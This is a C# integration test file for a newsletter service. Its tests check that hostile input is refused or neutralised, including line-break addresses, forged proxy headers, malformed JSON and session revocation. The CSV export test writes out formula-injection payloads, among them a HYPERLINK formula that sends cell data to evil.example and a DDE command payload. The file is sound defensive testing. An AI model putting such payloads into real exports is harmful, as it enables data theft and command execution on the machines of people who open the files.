using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Xml.Linq;
using Newsletter.Configuration;
using Newsletter.Delivery;
using Newsletter.Issues;
using Newsletter.Subscribers;
using Newsletter.Tests.Infrastructure;

namespace Newsletter.Tests.Web;

/// <summary>
/// What an attacker or a careless admin tries, against the real service, PostgreSQL and an SMTP
/// server: each case is a way in that once got through, and must not any more.
/// </summary>
public sealed class HardeningTests : DatabaseAndSmtpTest
{

    private Task<ServiceProcess> StartAsync(Dictionary<string, string?>? extra = null, string? connectionString = null)
    {
        var settings = ServiceProcess.SendingTo(_smtp);
        settings["Newsletter__Subscribe__RequestsPerMinute"] = "1000";
        foreach (var (k, v) in extra ?? []) settings[k] = v;
        return ServiceProcess.StartAsync(connectionString ?? _db.ConnectionString, settings);
    }

    private static StringContent Json(string json) => new(json, Encoding.UTF8, "application/json");

    private static async Task<JsonElement> JsonOf(HttpResponseMessage response) =>
        JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;

    private static async Task<string?> FieldOf(HttpResponseMessage response) =>
        (await JsonOf(response)).TryGetProperty("field", out var field) ? field.GetString() : null;

    private static async Task AssertBadRequestNaming(HttpResponseMessage response, string field)
    {
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{response.RequestMessage?.RequestUri}: {response.StatusCode} {body}");
        Assert.True(body.Length > 0 && JsonDocument.Parse(body).RootElement.TryGetProperty("field", out var named) && named.GetString() == field,
            $"{response.RequestMessage?.RequestUri}: expected the field {field}: {body}");
    }

    private static string IssueJson(string slug, string title, string url = "https://arxiv.org/abs/2404.14219") => JsonSerializer.Serialize(new
    {
        slug,
        title = new { en = title, ko = "제목" },
        items = new[] { new { title = new { en = "Paper" }, summary = new { en = "Summary" }, links = new[] { new { label = "paper", url } } } },
    });

    [Fact]
    public async Task An_address_with_a_line_break_reaches_no_one_who_left_through_any_entry_point()
    {
        var subscribers = _db.Subscribers();
        await subscribers.AddActiveAsync(new NewSubscriber("left@example.com", null, Cadence.Weekly, Language.En));
        await subscribers.UpdateAsync("left@example.com", null, null, SubscriberStatus.Unsubscribed);
        await subscribers.AddActiveAsync(new NewSubscriber("erased@example.com", null, Cadence.Weekly, Language.En));
        await subscribers.EraseAsync("erased@example.com");
        await subscribers.AddActiveAsync(new NewSubscriber("stay@example.com", null, Cadence.Weekly, Language.En));
        await _db.Issues().ImportAsync(SampleIssue.Document, publish: true);
        await using var service = await StartAsync();
        using var admin = service.Admin();

        foreach (var forged in new[] { "left\n@example.com", "erased\n@example.com", "left\r\n@example.com", "LEFT\n@EXAMPLE.COM" })
        {
            await AssertBadRequestNaming(await admin.PostAsync("/api/subscribers", Json(JsonSerializer.Serialize(new { email = forged }))), "email");

            var report = await JsonOf(await admin.PostAsync("/api/subscribers/import",
                new StringContent($"email\r\n\"{forged}\"\r\n", Encoding.UTF8, "text/csv")));
            Assert.Equal(0, report.GetProperty("inserted").GetInt32());
            Assert.Equal("email", report.GetProperty("problems")[0].GetProperty("field").GetString());

            using var page = new PageClient(service.BaseAddress);
            await page.GetAsync("/subscribe");
            var (status, _) = await page.PostAsync("/subscribe", [("email", forged), ("name", ""), ("cadence", "weekly"), ("language", "en"), ("website", "")]);
            Assert.Equal(HttpStatusCode.BadRequest, status);

            var cli = await NewsletterProcess.RunAsync(_db, NewsletterProcess.TempDirectory(), "subscriber", "add", forged);
            Assert.Equal(2, cli.ExitCode);
            Assert.Contains("email", cli.Error);
        }
        Assert.Equal(2L, await _db.ScalarAsync<long>("select count(*) from subscribers"));

        // A broadcast reaches the one reader who stayed, and no one else.
        var run = await JsonOf(await admin.PostAsync("/api/sends", Json($$"""{"issue":"{{SampleIssue.Document.Slug}}"}""")));
        await ServiceProcess.WaitForRunAsync(admin, run.GetProperty("id").GetInt64());
        Assert.Equal(["stay@example.com"], _smtp.Messages.SelectMany(m => m.Recipients));

        // A slug with a line break is not a slug anywhere: 400 on the way in, 404 when looked up.
        await AssertBadRequestNaming(await admin.PostAsync("/api/issues", Json(IssueJson("abc\n", "T"))), "slug");
        foreach (var path in new[] { "/api/issues/abc%0A", "/api/issues/abc%0A/deliveries", "/api/issues/abc%0A/preview", "/api/issues/%E2%80%AEabc" })
            Assert.True((await admin.GetAsync(path)).StatusCode == HttpStatusCode.NotFound, path);
        Assert.Equal(HttpStatusCode.NotFound, (await service.Http.GetAsync("/issues/abc%0A")).StatusCode);
        // A NUL in a path never reaches the service: the server itself answers 400.
        Assert.Equal(HttpStatusCode.BadRequest, (await admin.GetAsync("/api/issues/%00")).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await service.Http.GetAsync("/issues/%00")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await admin.PostAsync("/api/sends", Json("""{"issue":"abc\n"}"""))).StatusCode);
    }

    [Fact]
    public async Task Issue_text_that_looks_like_a_personal_marker_is_delivered_as_written_and_leaks_no_token()
    {
        for (var i = 0; i < 3; i++)
            await _db.Subscribers().AddActiveAsync(new NewSubscriber($"reader{i}@example.org", $"Reader %%NL:GREETING-EN%% {i}", Cadence.Weekly, Language.En));
        await using var service = await StartAsync();
        using var admin = service.Admin();
        const string link = "https://third-party.example/track?u=%%NL:UNSUBSCRIBE-URL%%&p=%%NL:PREFERENCES-URL%%";
        Assert.Equal(HttpStatusCode.Created, (await admin.PostAsync("/api/issues", Json(IssueJson("discount", "Discount 100%%NL: today", link)))).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await admin.PostAsync("/api/issues/discount/publish", null)).StatusCode);

        using var preview = await admin.GetAsync("/api/issues/discount/preview?language=en");
        Assert.Equal(HttpStatusCode.OK, preview.StatusCode);
        Assert.Contains("Discount 100%%NL: today", await preview.Content.ReadAsStringAsync());

        var run = await JsonOf(await admin.PostAsync("/api/sends", Json("""{"issue":"discount"}""")));
        var done = await ServiceProcess.WaitForRunAsync(admin, run.GetProperty("id").GetInt64());
        Assert.Equal(3, done.GetProperty("sent").GetInt32());
        Assert.Equal(0, done.GetProperty("failed").GetInt32());
        using var noRedirects = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false });
        foreach (var received in _smtp.Messages)
        {
            var message = received.Message;
            Assert.Contains("Discount 100%%NL: today", message.Subject);
            var html = message.HtmlBody!;
            // The third party's link (tracked) leads exactly to the issue's link: no reader's token in it.
            var hrefs = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html).QuerySelectorAll("a[href]").Select(a => a.GetAttribute("href")!).ToList();
            var tracked = Assert.Single(hrefs, h => h.Contains("/r/", StringComparison.Ordinal));
            using (var target = await noRedirects.GetAsync(tracked))
                Assert.Equal(link, target.Headers.Location!.OriginalString);
            Assert.DoesNotContain(hrefs, h => h.StartsWith("https://third-party.example", StringComparison.Ordinal));
            Assert.Contains(message.TextBody!.Split('\n'), l => l.Contains(tracked, StringComparison.Ordinal));
            Assert.Contains("Reader %%NL:GREETING-EN%%", html);
        }
    }

    [Fact]
    public async Task A_digest_that_fails_to_render_gives_its_issues_back_to_the_next_digest()
    {
        var broken = NewsletterProcess.TempDirectory();
        CopyDirectory(Repository.PathOf("templates"), broken);
        File.WriteAllText(Path.Combine(broken, "email", "Digest.cshtml"), "@{ throw new System.InvalidOperationException(\"the template is broken\"); }");
        await _db.Subscribers().AddActiveAsync(new NewSubscriber("reader@example.org", null, Cadence.Weekly, Language.En));
        await _db.Issues().ImportAsync(SampleIssue.Document, publish: true);
        var transport = new SmtpTransport(new SmtpOptions { Host = "127.0.0.1", Port = _smtp.Port, Security = SmtpSecurity.None });

        var first = (await _db.Ledger().StartDigestAsync(Cadence.Weekly, null)).Run;
        var options = TestMail.Options(broken);
        await using (var engine = _db.Engine(transport, newsletter: options))
            await engine.DeliverRunAsync(first.Id);
        Assert.Empty(_smtp.Messages);
        Assert.Equal("failed", await _db.ScalarAsync<string>("select status from deliveries"));
        Assert.StartsWith("rendering failed", await _db.ScalarAsync<string>("select last_error from deliveries"));
        Assert.Equal(0L, await _db.ScalarAsync<long>("select count(*) from receipts"));

        // The template is fixed; the next digest carries the issue the reader never got.
        var second = (await _db.Ledger().StartDigestAsync(Cadence.Weekly, null)).Run;
        Assert.NotEqual(first.Id, second.Id);
        await using (var engine = _db.Engine(transport))
            await engine.DeliverRunAsync(second.Id);
        var received = Assert.Single(_smtp.Messages);
        Assert.Equal(["reader@example.org"], received.Recipients);
        Assert.Equal(1L, await _db.ScalarAsync<long>("select count(*) from receipts"));
    }

    private static void CopyDirectory(string from, string to)
    {
        foreach (var dir in Directory.GetDirectories(from, "*", SearchOption.AllDirectories))
            Directory.CreateDirectory(dir.Replace(from, to, StringComparison.Ordinal));
        foreach (var file in Directory.GetFiles(from, "*", SearchOption.AllDirectories))
            File.Copy(file, file.Replace(from, to, StringComparison.Ordinal), overwrite: true);
    }

    [Fact]
    public async Task The_feed_stays_well_formed_even_with_a_character_xml_forbids_stored_before_the_rules()
    {
        await using var service = await StartAsync();
        using var admin = service.Admin();
        await AssertBadRequestNaming(await admin.PostAsync("/api/issues", Json(IssueJson("bad-title", "Broken \uFFFF title"))), "title.en");
        await AssertBadRequestNaming(await admin.PostAsync("/api/issues", Json(IssueJson("bad-title", "Broken \uFFFE title"))), "title.en");

        // A title stored by an older version, before the rules: the feed leaves the character out.
        await _db.Issues().ImportAsync(SampleIssue.Document, publish: true);
        await using (var command = _db.DataSource.CreateCommand("update issues set title_en = 'Legacy ' || chr(65535) || ' title', title_ko = null"))
            await command.ExecuteNonQueryAsync();
        using var feed = await service.Http.GetAsync("/feed.xml");
        Assert.Equal(HttpStatusCode.OK, feed.StatusCode);
        var xml = XDocument.Parse(await feed.Content.ReadAsStringAsync());
        XNamespace atom = "http://www.w3.org/2005/Atom";
        Assert.Contains("Legacy  title", xml.Root!.Element(atom + "entry")!.Element(atom + "title")!.Value);
    }

    [Fact]
    public async Task The_csv_export_neutralises_formulas_and_imports_back_unchanged()
    {
        await using var service = await StartAsync();
        using var admin = service.Admin();
        var people = new (string Email, string Name)[]
        {
            ("a@example.org", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            ("b@example.org", "+cmd|' /C calc'!A0"),
            ("c@example.org", "-2+3"),
            ("d@example.org", "@SUM(1,2)"),
            ("=1+1@example.com", "Plain Name"),
            ("e@example.org", "'=already quoted"),
        };
        foreach (var (email, name) in people)
            Assert.Equal(HttpStatusCode.Created, (await admin.PostAsync("/api/subscribers", Json(JsonSerializer.Serialize(new { email, name })))).StatusCode);

        var csv = await admin.GetStringAsync("/api/subscribers/export");
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).ToList();
        foreach (var line in lines)
            Assert.False(line[0] is '=' or '+' or '-' or '@' || line.Contains(",=", StringComparison.Ordinal) || line.Contains(",+", StringComparison.Ordinal)
                || line.Contains(",-", StringComparison.Ordinal) || line.Contains(",@", StringComparison.Ordinal), line);
        Assert.Contains(lines, l => l.StartsWith("\"'=1+1@example.com\",Plain Name,", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.StartsWith("c@example.org,\"'-2+3\",", StringComparison.Ordinal));

        // Back in: the same addresses and names, not a quote more.
        await using (var command = _db.DataSource.CreateCommand("delete from subscribers"))
            await command.ExecuteNonQueryAsync();
        var report = await JsonOf(await admin.PostAsync("/api/subscribers/import", new StringContent(csv, Encoding.UTF8, "text/csv")));
        Assert.Equal(people.Length, report.GetProperty("inserted").GetInt32());
        foreach (var (email, name) in people)
        {
            var stored = await JsonOf(await admin.GetAsync($"/api/subscribers/{Uri.EscapeDataString(email)}"));
            Assert.Equal((email, name), (stored.GetProperty("email").GetString(), stored.GetProperty("name").GetString()));
        }
    }

    [Fact]
    public async Task A_csv_record_with_endless_fields_is_refused_and_nothing_is_imported()
    {
        await using var service = await StartAsync();
        using var admin = service.Admin();
        var body = new byte[1_000_000 + 7];
        "email\r\n"u8.CopyTo(body);
        body.AsSpan(7).Fill((byte)',');
        var content = new ByteArrayContent(body);
        content.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        using var response = await admin.PostAsync("/api/subscribers/import", content);
        await AssertBadRequestNaming(response, "csv");
        Assert.Equal(0L, await _db.ScalarAsync<long>("select count(*) from subscribers"));
    }

    [Fact]
    public async Task Admin_sessions_end_on_sign_out_on_revocation_and_when_the_admin_key_changes()
    {
        await using var service = await StartAsync();
        var dashboard = new Uri(service.BaseAddress, "/admin/");

        async Task<string> SignInAsync(ServiceProcess s)
        {
            using var page = new PageClient(s.BaseAddress);
            await page.GetAsync("/admin/login");
            Assert.Equal(HttpStatusCode.SeeOther, (await page.PostAsync("/admin/login", [("key", ServiceProcess.AdminKey)])).Status);
            return page.Cookies.GetCookies(dashboard).Single(c => c.Name == "nl-admin").Value;
        }

        async Task<HttpStatusCode> OpenWithSavedCookieAsync(ServiceProcess s, string cookie)
        {
            using var http = new HttpClient(new HttpClientHandler { UseCookies = false, AllowAutoRedirect = false }) { BaseAddress = s.BaseAddress };
            using var request = new HttpRequestMessage(HttpMethod.Get, "/admin/");
            request.Headers.Add("Cookie", $"nl-admin={cookie}");
            using var response = await http.SendAsync(request);
            return response.StatusCode;
        }

        // Sign out: the saved cookie opens nothing any more.
        using (var page = new PageClient(service.BaseAddress))
        {
            await page.GetAsync("/admin/login");
            await page.PostAsync("/admin/login", [("key", ServiceProcess.AdminKey)]);
            var saved = page.Cookies.GetCookies(dashboard).Single(c => c.Name == "nl-admin").Value;
            Assert.Equal(HttpStatusCode.OK, await OpenWithSavedCookieAsync(service, saved));
            await page.GetAsync("/admin/");
            Assert.Equal(HttpStatusCode.SeeOther, (await page.PostAsync("/admin/logout", [])).Status);
            Assert.Equal(HttpStatusCode.Redirect, await OpenWithSavedCookieAsync(service, saved));
        }

        // The admin lists the open sessions and revokes one.
        var revoked = await SignInAsync(service);
        var kept = await SignInAsync(service);
        using var admin = service.Admin();
        var sessions = (await JsonOf(await admin.GetAsync("/api/sessions"))).EnumerateArray().ToList();
        Assert.Equal(2, sessions.Count);
        Assert.All(sessions, s => Assert.Equal("127.0.0.1", s.GetProperty("clientAddress").GetString()));
        var oldest = sessions.Min(s => s.GetProperty("id").GetInt64());
        Assert.Equal(HttpStatusCode.NoContent, (await admin.DeleteAsync($"/api/sessions/{oldest}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await admin.DeleteAsync($"/api/sessions/{oldest}")).StatusCode);
        Assert.Equal(HttpStatusCode.Redirect, await OpenWithSavedCookieAsync(service, revoked));
        Assert.Equal(HttpStatusCode.OK, await OpenWithSavedCookieAsync(service, kept));

        // A new admin key ends every session opened with the old one, across a restart.
        await service.StopAsync();
        await using var rotated = await StartAsync(new() { ["Newsletter__AdminApiKey"] = "a-brand-new-admin-key-0123456789" });
        Assert.Equal(HttpStatusCode.Redirect, await OpenWithSavedCookieAsync(rotated, kept));
        using var newAdmin = new HttpClient { BaseAddress = rotated.BaseAddress };
        newAdmin.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", "a-brand-new-admin-key-0123456789");
        Assert.Empty((await JsonOf(await newAdmin.GetAsync("/api/sessions"))).EnumerateArray());
    }

    [Fact]
    public async Task Forwarded_headers_are_believed_only_from_the_configured_proxies()
    {
        // The switch the framework offers believes anyone: here it believes no one.
        await using (var open = await StartAsync(new() { ["ASPNETCORE_FORWARDEDHEADERS_ENABLED"] = "true", ["Newsletter__Subscribe__RequestsPerMinute"] = "3" }))
        {
            var statuses = new List<HttpStatusCode>();
            for (var i = 0; i < AuthFailuresLimit + 1; i++)
            {
                using var request = new HttpRequestMessage(HttpMethod.Get, "/api/issues");
                request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", "a-wrong-key-of-some-length");
                request.Headers.Add("X-Forwarded-For", $"198.51.100.{i + 1}");
                statuses.Add((await open.Http.SendAsync(request)).StatusCode);
            }
            Assert.Equal(HttpStatusCode.TooManyRequests, statuses[^1]);

            var signUps = new List<HttpStatusCode>();
            for (var i = 0; i < 4; i++)
            {
                using var page = new PageClient(open.BaseAddress);
                await page.GetAsync("/subscribe");
                using var request = new HttpRequestMessage(HttpMethod.Post, "/subscribe")
                {
                    Content = new FormUrlEncodedContent([new("email", $"r{i}@example.org"), new("cadence", "weekly"), new("language", "en"), new("__af", page.Token)]),
                };
                request.Headers.Add("X-Forwarded-For", $"203.0.113.{i + 1}");
                signUps.Add((await page.SendAsync(request)).Status);
            }
            Assert.Equal(HttpStatusCode.TooManyRequests, signUps[^1]);
        }

        // Behind a configured proxy, the client's address is the one the proxy saw.
        await using var proxied = await StartAsync(new() { ["Newsletter__KnownProxies"] = "127.0.0.1, ::1" });
        using (var page = new PageClient(proxied.BaseAddress))
        {
            await page.GetAsync("/subscribe");
            using var request = new HttpRequestMessage(HttpMethod.Post, "/subscribe")
            {
                Content = new FormUrlEncodedContent([new("email", "proxied@example.org"), new("cadence", "weekly"), new("language", "en"), new("__af", page.Token)]),
            };
            request.Headers.Add("X-Forwarded-For", "192.0.2.66, 203.0.113.9");
            Assert.Equal(HttpStatusCode.OK, (await page.SendAsync(request)).Status);
        }
        using var admin = proxied.Admin();
        var history = await JsonOf(await admin.GetAsync("/api/subscribers/proxied@example.org/history"));
        Assert.Equal("203.0.113.9", history[0].GetProperty("clientAddress").GetString());
    }

    private const int AuthFailuresLimit = 20;

    [Fact]
    public async Task Bad_json_and_bad_parameters_are_4xx_naming_the_field_never_500()
    {
        await _db.Issues().ImportAsync(SampleIssue.Document, publish: true);
        await using var service = await StartAsync();
        using var admin = service.Admin();

        // Unpaired surrogates, in values and in names.
        await AssertBadRequestNaming(await admin.PostAsync("/api/issues", Json(IssueJson("s", "x").Replace("\"x\"", "\"\\ud800\""))), "title.en");
        await AssertBadRequestNaming(await admin.PostAsync("/api/subscribers", Json("""{"email":"a@example.org","name":"\ud800"}""")), "name");
        await AssertBadRequestNaming(await admin.PostAsync("/api/subscribers", Json("""{"email":"\udc00@example.org"}""")), "email");
        Assert.Equal(HttpStatusCode.BadRequest, (await admin.PostAsync("/api/subscribers", Json("""{"\ud800":"x"}"""))).StatusCode);

        // Loose JSON: a repeated field, a body that is not UTF-8, a body that is not JSON by its type.
        await AssertBadRequestNaming(await admin.PostAsync("/api/subscribers", Json("""{"email":"a@example.org","email":"b@example.org"}""")), "email");
        var latin1 = new ByteArrayContent(Encoding.Latin1.GetBytes("""{"email":"jose@example.org","name":"José"}"""));
        latin1.Headers.ContentType = new MediaTypeHeaderValue("application/json");
        await AssertBadRequestNaming(await admin.PostAsync("/api/subscribers", latin1), "$");
        await AssertBadRequestNaming(await admin.PostAsync("/api/subscribers", new StringContent("""{"email":"a@example.org"}""", Encoding.UTF8, "text/plain")), "Content-Type");
        await AssertBadRequestNaming(await admin.PostAsync("/api/issues", new StringContent(IssueJson("plain", "T"), Encoding.UTF8, "text/plain")), "Content-Type");
        Assert.Equal(0L, await _db.ScalarAsync<long>("select count(*) from subscribers"));

        // NUL bytes and unparseable parameters.
        await AssertBadRequestNaming(await admin.GetAsync("/api/subscribers?q=%00"), "q");
        await AssertBadRequestNaming(await admin.GetAsync($"/api/issues/{SampleIssue.Document.Slug}/deliveries?email=%00"), "email");
        await AssertBadRequestNaming(await admin.GetAsync("/api/subscribers/a%0Ab@example.org"), "email");
        await AssertBadRequestNaming(await admin.DeleteAsync("/api/subscribers/left%0A@example.org"), "email");
        await AssertBadRequestNaming(await admin.GetAsync("/api/subscribers?limit=abc"), "limit");
        await AssertBadRequestNaming(await admin.GetAsync("/api/subscribers?after=abc"), "after");
        await AssertBadRequestNaming(await admin.GetAsync("/api/sends/1/deliveries?after=-1"), "after");
        await AssertBadRequestNaming(await admin.PutAsync($"/api/issues/{SampleIssue.Document.Slug}?correction=maybe", Json(IssueJson(SampleIssue.Document.Slug, "T"))), "correction");

        // An address with a slash is addressable.
        Assert.Equal(HttpStatusCode.Created, (await admin.PostAsync("/api/subscribers", Json("""{"email":"a/b@example.org"}"""))).StatusCode);
        var found = await JsonOf(await admin.GetAsync("/api/subscribers/a%2Fb%40example.org"));
        Assert.Equal("a/b@example.org", found.GetProperty("email").GetString());
        Assert.Equal(HttpStatusCode.OK, (await admin.GetAsync("/api/subscribers/a%2Fb@example.org/history")).StatusCode);

        // The CLI says the same in one line, with exit 2.
        var file = Path.Combine(NewsletterProcess.TempDirectory(), "issue.json");
        await File.WriteAllTextAsync(file, IssueJson("cli-surrogate", "x").Replace("\"x\"", "\"\\ud800\""));
        var cli = await NewsletterProcess.RunAsync(_db, NewsletterProcess.TempDirectory(), "issue", "import", file);
        Assert.Equal(2, cli.ExitCode);
        Assert.StartsWith("newsletter: title.en:", Assert.Single(cli.Error.Split('\n', StringSplitOptions.RemoveEmptyEntries)));
        await File.WriteAllBytesAsync(file, Encoding.Latin1.GetBytes(IssueJson("cli-latin1", "CAFE").Replace("CAFE", "Café")));
        cli = await NewsletterProcess.RunAsync(_db, NewsletterProcess.TempDirectory(), "issue", "import", file);
        Assert.Equal(2, cli.ExitCode);
        Assert.Contains("UTF-8", cli.Error);
    }

    [Fact]
    public async Task Small_things_a_careless_or_hostile_client_tried()
    {
        await _db.Issues().ImportAsync(SampleIssue.Document, publish: true);
        await using var service = await StartAsync();

        // A crawler without a key does not lock the admin out.
        for (var i = 0; i < AuthFailuresLimit + 5; i++)
            Assert.Equal(HttpStatusCode.Unauthorized, (await service.Http.GetAsync("/api/issues")).StatusCode);
        using var admin = service.Admin();
        Assert.Equal(HttpStatusCode.OK, (await admin.GetAsync("/api/issues")).StatusCode);

        // Metrics need the admin key unless the operator opens them.
        Assert.Equal(HttpStatusCode.Unauthorized, (await service.Http.GetAsync("/metrics")).StatusCode);
        Assert.Contains("newsletter_queue_depth", await admin.GetStringAsync("/metrics"));

        // The dashboard's preview with a bad language is a 400, not a 404.
        using var page = new PageClient(service.BaseAddress);
        await page.GetAsync("/admin/login");
        await page.PostAsync("/admin/login", [("key", ServiceProcess.AdminKey)]);
        Assert.Equal(HttpStatusCode.BadRequest, (await page.GetAsync($"/admin/issues/{SampleIssue.Document.Slug}/preview?language=fr")).Status);
        Assert.Equal(HttpStatusCode.NotFound, (await page.GetAsync("/admin/issues/no-such-issue/preview")).Status);

        // A Korean page says its rules in Korean.
        using var reader = new PageClient(service.BaseAddress);
        await reader.GetAsync("/subscribe?lang=ko");
        foreach (var (email, name, expected) in new[]
        {
            ("not-an-address", "", "올바른 이메일 주소가 아닙니다"),
            ("kim@example.org", "김\u202E민지", "보이지 않는 문자나 글자 방향을 바꾸는 문자는 쓸 수 없습니다"),
            ("kim@example.org", new string('가', 101), "100자 이하로 입력해 주세요"),
        })
        {
            var (status, html) = await reader.PostAsync("/subscribe?lang=ko", [("email", email), ("name", name), ("cadence", "weekly"), ("language", "ko"), ("website", "")]);
            Assert.Equal(HttpStatusCode.BadRequest, status);
            var text = PageClient.Text(html);
            Assert.Contains(expected, text);
            Assert.DoesNotContain("must", text);
        }
        var unknown = await reader.PostAsync("/subscribe?lang=ko", [("email", "kim@example.org"), ("colour", "red")]);
        Assert.Equal(HttpStatusCode.BadRequest, unknown.Status);
        Assert.Contains("이 양식에 없는 항목입니다", PageClient.Text(unknown.Html));
    }

    [Fact]
    public async Task A_stranger_signing_up_an_address_on_the_list_rewrites_nothing_until_its_owner_confirms()
    {
        var subscribers = _db.Subscribers();
        await subscribers.AddActiveAsync(new NewSubscriber("kim@example.org", "Kim", Cadence.Weekly, Language.En));
        await subscribers.UpdateAsync("kim@example.org", null, null, SubscriberStatus.Unsubscribed);
        await subscribers.AddActiveAsync(new NewSubscriber("gone@example.org", "Gone", Cadence.Weekly, Language.En));
        await subscribers.UpdateAsync("gone@example.org", null, null, SubscriberStatus.Bounced);
        await using var service = await StartAsync();
        using var admin = service.Admin();

        foreach (var email in new[] { "kim@example.org", "gone@example.org" })
        {
            using var page = new PageClient(service.BaseAddress);
            await page.GetAsync("/subscribe");
            var (status, _) = await page.PostAsync("/subscribe", [("email", email), ("name", "Attacker <evil@example.net>"), ("cadence", "daily"), ("language", "ko"), ("website", "")]);
            Assert.Equal(HttpStatusCode.OK, status);
        }

        // The unsubscribed reader's record keeps its own choices; the request is in the history; the
        // confirmation mail goes to them under their own name.
        var kim = await JsonOf(await admin.GetAsync("/api/subscribers/kim@example.org"));
        Assert.Equal(("Kim", "weekly", "en", "pending"), (kim.GetProperty("name").GetString(), kim.GetProperty("cadence").GetString(),
            kim.GetProperty("language").GetString(), kim.GetProperty("status").GetString()));
        var history = (await JsonOf(await admin.GetAsync("/api/subscribers/kim@example.org/history"))).EnumerateArray().ToList();
        Assert.Equal("subscribed", history[^1].GetProperty("event").GetString());
        Assert.Contains("once confirmed", history[^1].GetProperty("detail").GetString());
        for (var i = 0; i < 600 && !_smtp.Messages.Any(); i++) await Task.Delay(100);
        var confirmation = Assert.Single(_smtp.Messages).Message;
        Assert.Equal("Kim", confirmation.To.Mailboxes.Single().Name);
        Assert.DoesNotContain("Attacker", confirmation.ToString());

        // A bounced address is not mailed again on a stranger's word, and nothing about it changes.
        var gone = await JsonOf(await admin.GetAsync("/api/subscribers/gone@example.org"));
        Assert.Equal(("Gone", "bounced"), (gone.GetProperty("name").GetString(), gone.GetProperty("status").GetString()));
        await Task.Delay(1000);
        Assert.DoesNotContain(_smtp.Messages, m => m.Recipients.Contains("gone@example.org"));

        // The owner confirms from their mailbox: then, and only then, the form's choices are theirs.
        var link = confirmation.TextBody!.Split('\n').Select(l => l.Trim()).First(l => l.Contains("/confirm/", StringComparison.Ordinal));
        var path = new Uri(link[link.IndexOf("http", StringComparison.Ordinal)..]).AbsolutePath;
        using var owner = new PageClient(service.BaseAddress);
        await owner.GetAsync(path);
        Assert.Equal(HttpStatusCode.OK, (await owner.PostAsync(path, [])).Status);
        kim = await JsonOf(await admin.GetAsync("/api/subscribers/kim@example.org"));
        Assert.Equal(("Attacker <evil@example.net>", "daily", "ko", "active"), (kim.GetProperty("name").GetString(), kim.GetProperty("cadence").GetString(),
            kim.GetProperty("language").GetString(), kim.GetProperty("status").GetString()));
        var events = (await JsonOf(await admin.GetAsync("/api/subscribers/kim@example.org/history"))).EnumerateArray().Select(e => e.GetProperty("event").GetString()).ToList();
        Assert.Equal(["resubscribed", "cadence_changed", "language_changed", "name_changed"], events.TakeLast(4));
    }

    [Fact]
    public async Task Metrics_can_be_opened_or_turned_off()
    {
        await using (var open = await StartAsync(new() { ["Newsletter__MetricsAccess"] = "Open" }))
            Assert.Contains("newsletter_queue_depth", await open.Http.GetStringAsync("/metrics"));
        await using var off = await StartAsync(new() { ["Newsletter__MetricsAccess"] = "Off" });
        using var admin = off.Admin();
        Assert.Equal(HttpStatusCode.NotFound, (await admin.GetAsync("/metrics")).StatusCode);
    }

    [Fact]
    public async Task A_failure_of_the_service_itself_is_a_500_in_the_readers_language_or_problem_details_never_a_stack_trace()
    {
        await using var service = await ServiceProcess.StartAsync(_db);
        using var admin = service.Admin();
        await using (var connection = await _db.DataSource.OpenConnectionAsync())
        await using (var command = new Npgsql.NpgsqlCommand("alter table issues rename to issues_elsewhere", connection))
            await command.ExecuteNonQueryAsync();

        using var request = new HttpRequestMessage(HttpMethod.Get, "/issues");
        request.Headers.AcceptLanguage.ParseAdd("ko");
        using var page = await service.Http.SendAsync(request);
        Assert.Equal(HttpStatusCode.InternalServerError, page.StatusCode);
        Assert.Equal("text/html", page.Content.Headers.ContentType?.MediaType);
        var html = await page.Content.ReadAsStringAsync();
        Assert.Contains("문제가 생겼습니다", html);
        Assert.DoesNotContain("issues_elsewhere", html);
        Assert.DoesNotContain("Npgsql", html);

        using var api = await admin.GetAsync("/api/issues");
        Assert.Equal(HttpStatusCode.InternalServerError, api.StatusCode);
        Assert.Equal("application/problem+json", api.Content.Headers.ContentType?.MediaType);
        var problem = await api.Content.ReadAsStringAsync();
        Assert.DoesNotContain("issues_elsewhere", problem);
        Assert.DoesNotContain("Npgsql", problem);
    }
}
